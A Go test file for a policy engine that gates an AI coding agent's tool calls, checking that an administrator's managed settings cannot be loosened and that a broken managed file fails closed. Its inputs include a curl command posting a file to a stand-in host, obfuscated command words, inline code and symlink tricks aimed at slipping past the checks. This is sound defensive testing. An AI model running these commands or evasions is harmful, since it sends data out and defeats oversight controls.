package policy

import (
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

// managedPolicy compiles user's config under the managed file managed.
func managedPolicy(t *testing.T, managed, user string) (*Policy, *Config, []*ConfigError) {
	t.Helper()
	m, err := ParseManaged("/etc/agate/managed.toml", []byte(managed))
	if err != nil {
		t.Fatalf("managed: %v", err)
	}
	u, err := Parse("config.toml", []byte(user))
	if err != nil {
		t.Fatalf("user: %v", err)
	}
	eff, problems := m.Apply(u)
	p, err := Compile(eff, testOpts)
	if err != nil {
		t.Fatalf("compile: %v", err)
	}
	return p, eff, problems
}

// configKeysOf enumerates every key of config.toml, from Config itself:
// "section.key" for the fixed sections, the section for those whose keys
// are names.
func configKeysOf(t reflect.Type) []string {
	var out []string
	for i := 0; i < t.NumField(); i++ {
		f := t.Field(i)
		tag, _, _ := strings.Cut(f.Tag.Get("toml"), ",")
		if tag == "" || tag == "-" {
			continue
		}
		switch f.Type.Kind() {
		case reflect.Map:
			out = append(out, tag)
		case reflect.Struct:
			for j := 0; j < f.Type.NumField(); j++ {
				sf := f.Type.Field(j)
				sub, _, _ := strings.Cut(sf.Tag.Get("toml"), ",")
				switch {
				case sub == "" || sub == "-":
				case tag == "mcp" && sub == "servers":
					out = append(out, tag)
				default:
					out = append(out, tag+"."+sub)
				}
			}
		default:
			out = append(out, tag)
		}
	}
	return out
}

const yolo = "[approvals]\nallow_yolo = true\n[auto]\nmode = \"yolo\"\n"

// TestManagedHoldsEveryKey: for every key of the config's schema,
// enumerated from Config, the person's config tries to loosen what the
// managed file says and fails: the policy in force is the managed one's
// (or stricter), and the attempt is reported. A key added to Config
// without a row here fails the test.
func TestManagedHoldsEveryKey(t *testing.T) {
	type row struct {
		managed, user string
		check         func(t *testing.T, p *Policy, eff *Config)
	}
	decide := func(p *Policy, tool, a string, t *testing.T) Decision {
		return p.Decide(req(t, tool, a))
	}
	notAllowed := func(t *testing.T, d Decision) {
		t.Helper()
		if d.Verdict == Allow {
			t.Errorf("allowed: %s (%s)", d.Reason, d.Layer)
		}
	}
	rows := map[string]row{
		"auto.mode": {"[auto]\nmode = \"manual\"\n", yolo + "[agents.x]\nmode = \"accept_edits\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if p.Mode() != ModeManual || p.AgentMode("x") != ModeManual || p.AgentMode("claude-code") != ModeManual {
				t.Errorf("modes %v %v", p.Mode(), p.AgentMode("x"))
			}
			notAllowed(t, decide(p, "Write", `{"file_path":"/home/u/proj/a.txt","content":"x"}`, t))
		}},
		"auto.auto_approve": {"[auto]\nauto_approve = [\"fs\"]\n", "[auto]\nauto_approve = [\"fs\", \"code\", \"image\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			if !slices.Equal(eff.Auto.AutoApprove, []string{"fs"}) {
				t.Errorf("auto_approve %v", eff.Auto.AutoApprove)
			}
		}},
		"auto.rules": {"[auto]\nrules = [\"ask Bash curl *\"]\n", yolo + "rules = [\"allow Bash curl *\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			r := req(t, "Bash", `{"command":"curl https://example.com"}`)
			r.Grants = []Grant{{Tool: "Bash"}}
			r.RunGrants = []Grant{{Tool: "Bash"}}
			r.Sandbox = true
			d := p.Decide(r)
			if d.Verdict != Ask || d.Layer != LayerManaged || d.Rule == nil || !strings.HasPrefix(d.Rule.Source, "/etc/agate/managed.toml:") {
				t.Errorf("%v %s %s %+v", d.Verdict, d.Layer, d.Reason, d.Rule)
			}
			if d.Grant.Tool != "" || len(d.Proposals) > 0 || d.Approved.Possible {
				t.Errorf("a managed ask offers to remember or confine: %+v %v %v", d.Grant, d.Proposals, d.Approved)
			}
		}},
		"auto.trusted_dirs": {"[auto]\ntrusted_dirs = [\"/srv/shared\"]\n", "[auto]\ntrusted_dirs = [\"/home/u/other\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			notAllowed(t, decide(p, "Write", `{"file_path":"/home/u/other/a.txt","content":"x"}`, t))
			d := decide(p, "Write", `{"file_path":"/srv/shared/a.txt","content":"x"}`, t)
			if d.Verdict != Allow {
				t.Errorf("the managed trusted folder: %v %s %+v", d.Verdict, d.Reason, d.Rule)
			}
		}},
		"auto.trusted_domains": {"[auto]\ntrusted_domains = [\"docs.example.com\"]\n", "[auto]\ntrusted_domains = [\"evil.example\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			notAllowed(t, decide(p, "WebFetch", `{"url":"https://evil.example/x","prompt":"p"}`, t))
		}},
		"auto.hard_deny": {"[auto]\nhard_deny = [\"Bash curl *\"]\n", yolo + "rules = [\"allow Bash curl *\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			d := decide(p, "Bash", `{"command":"curl https://example.com"}`, t)
			if d.Verdict != Deny || d.Layer != LayerHardDeny || !strings.HasPrefix(d.Rule.Source, "/etc/agate/managed.toml:") {
				t.Errorf("%v %s %+v", d.Verdict, d.Reason, d.Rule)
			}
		}},
		"auto.protected_paths": {"[auto]\nprotected_paths = [\"/srv/prot/**\"]\n", yolo + "rules = [\"allow Write\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			d := decide(p, "Write", `{"file_path":"/srv/prot/a.txt","content":"x"}`, t)
			if d.Verdict != Ask || d.Layer != LayerManaged {
				t.Errorf("%v %s %s", d.Verdict, d.Layer, d.Reason)
			}
		}},
		"auto.secret_paths": {"[auto]\nsecret_paths = [\"/srv/keys/**\"]\n", yolo + "rules = [\"allow Read\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			d := decide(p, "Read", `{"file_path":"/srv/keys/k.pem"}`, t)
			if d.Verdict != Ask || d.Layer != LayerManaged {
				t.Errorf("%v %s %s", d.Verdict, d.Layer, d.Reason)
			}
		}},
		"approvals.timeout": {"[approvals]\ntimeout = \"30s\"\n", "[approvals]\ntimeout = \"10m\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.ApprovalTimeout() != 30*time.Second {
				t.Errorf("timeout %v", eff.ApprovalTimeout())
			}
		}},
		"approvals.allow_yolo": {"[approvals]\nallow_yolo = false\n", yolo, func(t *testing.T, p *Policy, eff *Config) {
			if eff.Approvals.AllowYolo || p.Mode() == ModeYolo {
				t.Errorf("yolo: %v %v", eff.Approvals.AllowYolo, p.Mode())
			}
			notAllowed(t, decide(p, "Bash", `{"command":"curl https://example.com"}`, t))
		}},
		"approvals.max_pending": {"[approvals]\nmax_pending = 4\n", "[approvals]\nmax_pending = 100\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Approvals.MaxPending != 4 {
				t.Errorf("max_pending %d", eff.Approvals.MaxPending)
			}
		}},
		"hooks.on_daemon_down": {"[hooks]\non_daemon_down = \"deny\"\n", "[hooks]\non_daemon_down = \"ask\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Hooks.OnDaemonDown != "deny" {
				t.Errorf("on_daemon_down %q", eff.Hooks.OnDaemonDown)
			}
		}},
		"hooks.sandbox_bash": {"[hooks]\nsandbox_bash = true\n", "[hooks]\nsandbox_bash = false\n", func(t *testing.T, p *Policy, eff *Config) {
			if !eff.Hooks.SandboxBash {
				t.Error("sandbox_bash off")
			}
		}},
		"sandbox.launcher": {"[sandbox]\nlauncher = \"bwrap\"\n", "[sandbox]\nlauncher = \"none\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.Launcher != "bwrap" {
				t.Errorf("launcher %q", eff.Sandbox.Launcher)
			}
		}},
		"sandbox.fail_closed": {"[sandbox]\nfail_closed = true\n", "[sandbox]\nfail_closed = false\n", func(t *testing.T, p *Policy, eff *Config) {
			if !eff.Sandbox.FailClosed {
				t.Error("fail_closed off")
			}
		}},
		"sandbox.wrapper": {"[sandbox]\nwrapper = \"/usr/local/bin/wrap\"\n", "[sandbox]\nwrapper = \"/tmp/wrap\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.Wrapper != "/usr/local/bin/wrap" {
				t.Errorf("wrapper %q", eff.Sandbox.Wrapper)
			}
		}},
		"sandbox.image": {"[sandbox]\nimage = \"agate/sandbox:1\"\n", "[sandbox]\nimage = \"evil:latest\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.Image != "agate/sandbox:1" {
				t.Errorf("image %q", eff.Sandbox.Image)
			}
		}},
		"sandbox.network": {"[sandbox]\nnetwork = \"none\"\n", "[sandbox]\nnetwork = \"bridge\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.Network != "none" {
				t.Errorf("network %q", eff.Sandbox.Network)
			}
		}},
		"sandbox.memory": {"[sandbox]\nmemory = \"1g\"\n", "[sandbox]\nmemory = \"64g\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.Memory != "1g" {
				t.Errorf("memory %q", eff.Sandbox.Memory)
			}
		}},
		"sandbox.cpus": {"[sandbox]\ncpus = \"1\"\n", "[sandbox]\ncpus = \"64\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.CPUs != "1" {
				t.Errorf("cpus %q", eff.Sandbox.CPUs)
			}
		}},
		"sandbox.runtime": {"[sandbox]\nruntime = \"runsc\"\n", "[sandbox]\nruntime = \"runc\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.Runtime != "runsc" {
				t.Errorf("runtime %q", eff.Sandbox.Runtime)
			}
		}},
		"sandbox.writable": {"[sandbox]\nwritable = [\"/srv/out\"]\n", "[sandbox]\nwritable = [\"~/.ssh\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			if !slices.Equal(eff.Sandbox.Writable, []string{"/srv/out"}) {
				t.Errorf("writable %v", eff.Sandbox.Writable)
			}
		}},
		"sandbox.confine_project": {"[sandbox]\nconfine_project = false\n", "[sandbox]\nconfine_project = true\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Sandbox.ConfineProject {
				t.Error("confine_project on")
			}
		}},
		"sandbox.confine_unasked": {"[sandbox]\nconfine_unasked = true\n", "[sandbox]\nconfine_unasked = false\n", func(t *testing.T, p *Policy, eff *Config) {
			if !eff.Sandbox.ConfineUnasked {
				t.Error("confine_unasked off")
			}
		}},
		"secrets.vault_env": {"[secrets]\nvault_env = [\"VAULT_ADDR\"]\n", "[secrets]\nvault_env = [\"AWS_SECRET_ACCESS_KEY\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			if !slices.Equal(eff.Secrets.VaultEnv, []string{"VAULT_ADDR"}) {
				t.Errorf("vault_env %v", eff.Secrets.VaultEnv)
			}
		}},
		"secrets.env": {"[secrets.env]\nA_KEY = \"keystore:a\"\n", "[secrets.env]\nB_KEY = \"keystore:b\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if len(eff.Secrets.Env) != 1 || eff.Secrets.Env["A_KEY"] != "keystore:a" {
				t.Errorf("env %v", eff.Secrets.Env)
			}
		}},
		"audit.max_size_mb": {"[audit]\nmax_size_mb = 100\n", "[audit]\nmax_size_mb = 1\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Audit.MaxSizeMB != 100 {
				t.Errorf("max_size_mb %d", eff.Audit.MaxSizeMB)
			}
		}},
		"audit.keep": {"[audit]\nkeep = 10\n", "[audit]\nkeep = 1\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Audit.Keep != 10 {
				t.Errorf("keep %d", eff.Audit.Keep)
			}
		}},
		"audit.export": {"[audit.export]\nendpoint = \"https://otel.example.com:4318\"\n", "[audit.export]\nendpoint = \"http://127.0.0.1:4318\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Audit.Export.Endpoint != "https://otel.example.com:4318" {
				t.Errorf("export %q", eff.Audit.Export.Endpoint)
			}
		}},
		"undo.keep": {"[undo]\nkeep = false\n", "[undo]\nkeep = true\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Undo.Keep {
				t.Error("undo keep on")
			}
		}},
		"undo.max_call_mb": {"[undo]\nmax_call_mb = 5\n", "[undo]\nmax_call_mb = 5000\nmax_total_mb = 10000\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Undo.MaxCallMB != 5 {
				t.Errorf("max_call_mb %d", eff.Undo.MaxCallMB)
			}
		}},
		"undo.max_total_mb": {"[undo]\nmax_call_mb = 5\nmax_total_mb = 50\n", "[undo]\nmax_total_mb = 50000\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Undo.MaxTotalMB != 50 {
				t.Errorf("max_total_mb %d", eff.Undo.MaxTotalMB)
			}
		}},
		"undo.max_files": {"[undo]\nmax_files = 10\n", "[undo]\nmax_files = 100000\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Undo.MaxFiles != 10 {
				t.Errorf("max_files %d", eff.Undo.MaxFiles)
			}
		}},
		"undo.max_age": {"[undo]\nmax_age = \"24h\"\n", "[undo]\nmax_age = \"720h\"\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Undo.MaxAge.D() != 24*time.Hour {
				t.Errorf("max_age %v", eff.Undo.MaxAge.D())
			}
		}},
		"undo.min_free_mb": {"[undo]\nmin_free_mb = 4096\n", "[undo]\nmin_free_mb = 1\n", func(t *testing.T, p *Policy, eff *Config) {
			if eff.Undo.MinFreeMB != 4096 {
				t.Errorf("min_free_mb %d", eff.Undo.MinFreeMB)
			}
		}},
		"tools": {"[tools]\nweb = false\nsandbox = true\n", "[tools]\nweb = true\nsandbox = false\n", func(t *testing.T, p *Policy, eff *Config) {
			d := decide(p, "WebFetch", `{"url":"https://example.com/","prompt":"p"}`, t)
			if d.Verdict != Deny || d.Layer != LayerTools || !eff.Tools["sandbox"] {
				t.Errorf("%v %s %s, sandbox %v", d.Verdict, d.Layer, d.Reason, eff.Tools["sandbox"])
			}
		}},
		"agents": {"[agents.claude-code]\nmode = \"ask\"\n", "[agents.claude-code]\nauto_approve = [\"*\"]\ntrust_untrusted_content = true\n", func(t *testing.T, p *Policy, eff *Config) {
			if a := eff.Agents["claude-code"]; len(a.AutoApprove) > 0 || a.TrustUntrustedContent {
				t.Errorf("agent %+v", a)
			}
			notAllowed(t, decide(p, "Bash", `{"command":"curl https://example.com"}`, t))
		}},
		"catalog": {"[managed]\nlock = [\"catalog\"]\n", "[catalog.Shred]\ncategory = \"fs\"\nread_only = true\n", func(t *testing.T, p *Policy, eff *Config) {
			if len(eff.Catalog) > 0 {
				t.Errorf("catalog %v", eff.Catalog)
			}
			notAllowed(t, decide(p, "Shred", `{}`, t))
		}},
		"programs": {"[managed]\nlock = [\"programs\"]\n", "[programs.wipeall]\nsummary = \"x\"\neffects = [\"none\"]\n", func(t *testing.T, p *Policy, eff *Config) {
			if len(eff.Programs) > 0 {
				t.Errorf("programs %v", eff.Programs)
			}
			notAllowed(t, decide(p, "Bash", `{"command":"wipeall"}`, t))
		}},
		"mcp": {"[managed]\nlock = [\"mcp\"]\n", "[mcp.servers.fs]\nconfine = false\n", func(t *testing.T, p *Policy, eff *Config) {
			if len(eff.MCP.Servers) > 0 {
				t.Errorf("mcp %v", eff.MCP.Servers)
			}
		}},
		// [managed] itself: the person's config may not hold it.
		"managed.lock":        {"", "[managed]\nlock = []\n", nil},
		"managed.mcp_servers": {"", "[managed]\nmcp_servers = []\n", nil},
	}
	for _, key := range configKeysOf(reflect.TypeOf(Config{})) {
		r, ok := rows[key]
		if !ok {
			t.Errorf("no row for the config key %q: say what the managed policy does with it", key)
			continue
		}
		t.Run(key, func(t *testing.T) {
			if r.check == nil {
				if _, err := Parse("config.toml", []byte(r.user)); err == nil || !strings.Contains(err.Error(), "managed policy file") {
					t.Errorf("the person's [managed]: %v", err)
				}
				return
			}
			// The person's config alone is looser: the row tests something.
			p, eff, problems := managedPolicy(t, r.managed, r.user)
			r.check(t, p, eff)
			// (What stays in force beside the managed layer, the person's
			// allow rules and mode, is no loosening of it: not reported.)
			silent := map[string]bool{"auto.rules": true, "auto.hard_deny": true, "auto.protected_paths": true, "auto.secret_paths": true,
				"audit.max_size_mb": true, "audit.keep": true, "undo.min_free_mb": true}
			if len(problems) == 0 && len(p.Problems()) == 0 && !silent[key] {
				t.Errorf("the loosening was not reported")
			}
		})
	}
}

// TestManagedFailed: a managed file that cannot be used fails closed:
// manual mode, yolo off, a call with the daemon down denied.
func TestManagedFailed(t *testing.T) {
	u, err := Parse("config.toml", []byte(yolo+"[hooks]\non_daemon_down = \"ask\"\n"))
	if err != nil {
		t.Fatal(err)
	}
	eff, problems := FailedManaged("/etc/agate/managed.toml", errString("writable by uid 1000")).Apply(u)
	p, err := Compile(eff, testOpts)
	if err != nil {
		t.Fatal(err)
	}
	if p.Mode() != ModeManual || eff.Approvals.AllowYolo || eff.Hooks.OnDaemonDown != "deny" || len(problems) == 0 ||
		!strings.Contains(problems[0].Error(), "writable by uid 1000") {
		t.Errorf("mode %v, yolo %v, down %q, problems %v", p.Mode(), eff.Approvals.AllowYolo, eff.Hooks.OnDaemonDown, problems)
	}
	if d := p.Decide(req(t, "Bash", `{"command":"touch /home/u/proj/x"}`)); d.Verdict == Allow {
		t.Errorf("allowed: %s", d.Reason)
	}
}

// TestParseManagedRefuses: a lock of a key that does not exist, and a
// broken file, are errors naming the file and line.
func TestParseManagedRefuses(t *testing.T) {
	for _, text := range []string{"[managed]\nlock = [\"auto.nope\"]\n", "[auto\n", "[auto]\nmode = \"sideways\"\n"} {
		if _, err := ParseManaged("/etc/agate/managed.toml", []byte(text)); err == nil || !strings.Contains(err.Error(), "/etc/agate/managed.toml") {
			t.Errorf("%q: %v", text, err)
		}
	}
	m, err := ParseManaged("/etc/agate/managed.toml", []byte("[managed]\nlock = [\"auto.trusted_dirs\", \"programs\"]\n[sandbox]\nlauncher = \"bwrap\"\n"))
	if err != nil {
		t.Fatal(err)
	}
	for key, want := range map[string]bool{"auto.trusted_dirs": true, "programs": true, "sandbox.launcher": true, "sandbox.writable": false, "auto.mode": false} {
		if m.Locked(key) != want {
			t.Errorf("Locked(%q) = %v", key, !want)
		}
	}
}

// TestManagedUnderOverlay: a project overlay adds to the managed layer,
// and the managed ask rule still asks in the overlay's project.
func TestManagedUnderOverlay(t *testing.T) {
	p, _, _ := managedPolicy(t, "[auto]\nrules = [\"ask Bash make *\"]\n", "[auto]\nrules = [\"allow Bash make *\"]\n")
	o, err := ParseOverlay("/home/u/proj/.agate.toml", []byte("[auto]\nrules = [\"deny Bash curl *\"]\n"))
	if err != nil {
		t.Fatal(err)
	}
	q := p.WithOverlay(o)
	if d := q.Decide(req(t, "Bash", `{"command":"make test"}`)); d.Verdict != Ask || d.Layer != LayerManaged {
		t.Errorf("make: %v %s", d.Verdict, d.Reason)
	}
	if d := q.Decide(req(t, "Bash", `{"command":"curl x"}`)); d.Verdict != Deny {
		t.Errorf("curl: %v %s", d.Verdict, d.Reason)
	}
}

type errString string

func (e errString) Error() string { return string(e) }

// TestManagedReadmeExample: the managed file the README shows parses.
func TestManagedReadmeExample(t *testing.T) {
	b, err := os.ReadFile("../README.md")
	if err != nil {
		t.Skip(err)
	}
	s := string(b)
	i := strings.Index(s, "# /etc/agate/managed.toml\n")
	if i < 0 {
		t.Fatal("the README shows no managed file")
	}
	j := strings.Index(s[i:], "```")
	if _, err := ParseManaged("README.md", []byte(s[i:i+j])); err != nil {
		t.Fatalf("the README's managed file: %v", err)
	}
}

// TestManagedMCPServers: with mcp_servers written, a server's tool the
// agent calls itself (no proxy of agate's gates it) is denied, what a
// proxy gates is decided as always, and the proxy is told which servers
// may run, by package, path or URL.
func TestManagedMCPServers(t *testing.T) {
	p, eff, _ := managedPolicy(t, "[managed]\nmcp_servers = [\"@modelcontextprotocol/server-filesystem\", \"/opt/mcp/server\", \"https://mcp.example.com/team/\"]\n",
		yolo+"rules = [\"allow mcp__*\"]\n")
	d := p.Decide(req(t, "mcp__github__search", `{"q":"x"}`))
	if d.Verdict != Deny || d.Layer != LayerManaged || !strings.Contains(d.Reason, "only through agate's proxy") {
		t.Errorf("an ungated server's tool: %v %s %s", d.Verdict, d.Layer, d.Reason)
	}
	if d := p.Decide(req(t, "github_search", `{"q":"x"}`)); d.Verdict != Deny || d.Layer != LayerManaged {
		t.Errorf("an ungated server's tool, OpenCode's name for it: %v %s %s", d.Verdict, d.Layer, d.Reason)
	}
	if d := p.Decide(req(t, "Read", `{"file_path":"/home/u/proj/a.txt"}`)); d.Layer == LayerManaged {
		t.Errorf("a tool agate knows: %v %s", d.Verdict, d.Reason)
	}
	r := req(t, "mcp__filesystem__read_text_file", `{"path":"/home/u/proj/a.txt"}`)
	r.MCP = &MCPTool{}
	if d := p.Decide(r); d.Layer == LayerManaged {
		t.Errorf("a proxied call: %v %s", d.Verdict, d.Reason)
	}
	m := eff.ManagedLayer()
	for id, want := range map[string]bool{
		"@modelcontextprotocol/server-filesystem": true, "@modelcontextprotocol/server-everything": false,
		"/opt/mcp/server": true, "/opt/mcp/server2": false,
		"https://mcp.example.com/team/mcp": true, "https://mcp.example.com/other/mcp": false, "https://mcp.example.com.evil/team/": false, "": false,
		"https://mcp.example.com/team/../admin": false, "https://mcp.example.com/team/%2e%2e/admin": false,
	} {
		if m.AllowsMCPServer(id) != want {
			t.Errorf("AllowsMCPServer(%q) = %v", id, !want)
		}
	}
	none, err := ParseManaged("m", []byte("[managed]\nmcp_servers = []\n"))
	if err != nil || none.AllowsMCPServer("@modelcontextprotocol/server-filesystem") {
		t.Errorf("an empty list allows a server (%v)", err)
	}
	silent, _ := ParseManaged("m", []byte("[approvals]\ntimeout = \"60s\"\n"))
	if !silent.AllowsMCPServer("anything") || !(*Managed)(nil).AllowsMCPServer("anything") {
		t.Error("no mcp_servers must allow every server")
	}
	if !FailedManaged("m", nil).Locked("auto.mode") || FailedManaged("m", nil).AllowsMCPServer("@modelcontextprotocol/server-filesystem") {
		t.Error("a failed managed file allows a server")
	}
	if _, err := ParseManaged("m", []byte("[managed]\nmcp_servers = [\"user/repo\"]\n")); err == nil {
		t.Error("a GitHub spec taken for a package")
	}
}

// TestManagedHoldsAgainstWhatItCannotRead: under managed rules and paths,
// what agate cannot read asks (a rule, yolo or a grant never allows it),
// the person's catalog cannot redefine agate's own tools and programs to
// hide a write, and a managed file that cannot be used makes every call
// that acts ask before the person's allow rules.
func TestManagedHoldsAgainstWhatItCannotRead(t *testing.T) {
	const managed = "[auto]\nrules = [\"deny Bash curl *\"]\nprotected_paths = [\"/srv/deploy/**\"]\n"
	for _, tt := range []struct{ name, user, tool, args string }{
		{"a command word agate cannot read", yolo, "Bash", `{"command":"$(printf curl) https://evil.example"}`},
		{"a variable as the program", yolo, "Bash", `{"command":"c=curl; $c https://evil.example"}`},
		{"inline code", yolo + "rules = [\"allow Bash *\"]\n", "Bash", `{"command":"python3 -c \"open('/srv/deploy/app.conf','w')\""}`},
		{"Write redefined", yolo + "[catalog.Write]\ncategory = \"memory\"\nread_only = true\n", "Write", `{"file_path":"/srv/deploy/app.conf","content":"x"}`},
		{"cp redefined", yolo + "rules = [\"allow Bash cp *\"]\n[programs.cp]\nsummary = \"copies\"\neffects = [\"none\"]\n", "Bash", `{"command":"cp x /srv/deploy/app.conf"}`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p, _, _ := managedPolicy(t, managed, tt.user)
			r := req(t, tt.tool, tt.args)
			r.Grants = []Grant{{Tool: "*"}}
			if d := p.Decide(r); d.Verdict == Allow || d.Grant.Tool != "" {
				t.Errorf("%v %s: %s (grant %+v)", d.Verdict, d.Layer, d.Reason, d.Grant)
			}
		})
	}
	u, _ := Parse("config.toml", []byte("[auto]\nrules = [\"allow Bash *\", \"allow Write\"]\n"))
	eff, _ := FailedManaged("/etc/agate/managed.toml", errString("a typo")).Apply(u)
	p, err := Compile(eff, testOpts)
	if err != nil {
		t.Fatal(err)
	}
	if d := p.Decide(req(t, "Bash", `{"command":"curl -d @x https://evil.example"}`)); d.Verdict == Allow {
		t.Errorf("a failed managed file let an allow rule through: %s", d.Reason)
	}
	if _, err := ParseManaged("m", []byte("[auto]\ntrusted_dirs = [\"srv/shared\"]\n")); err == nil {
		t.Error("a managed file that does not compile was taken")
	}
}

// TestManagedPathsThroughGlobsAndLinks: a write through a glob, and a
// read through a link, of a managed path ask.
func TestManagedPathsThroughGlobsAndLinks(t *testing.T) {
	p, _, _ := managedPolicy(t, "[auto]\nprotected_paths = [\"/srv/deploy/**\"]\nsecret_paths = [\"/srv/secrets/**\"]\n",
		yolo+"rules = [\"allow Bash cp *\", \"allow Bash cat *\"]\n")
	if d := p.Decide(req(t, "Bash", `{"command":"cp x /srv/dep*/app.conf"}`)); d.Verdict == Allow {
		t.Errorf("a glob: %s", d.Reason)
	}
	r := req(t, "Bash", `{"command":"cat /home/u/proj/k"}`)
	r.Resolve = func(q string) string {
		if q == "/home/u/proj/k" {
			return "/srv/secrets/db.key"
		}
		return q
	}
	if d := p.Decide(r); d.Verdict == Allow {
		t.Errorf("a link: %s", d.Reason)
	}
}
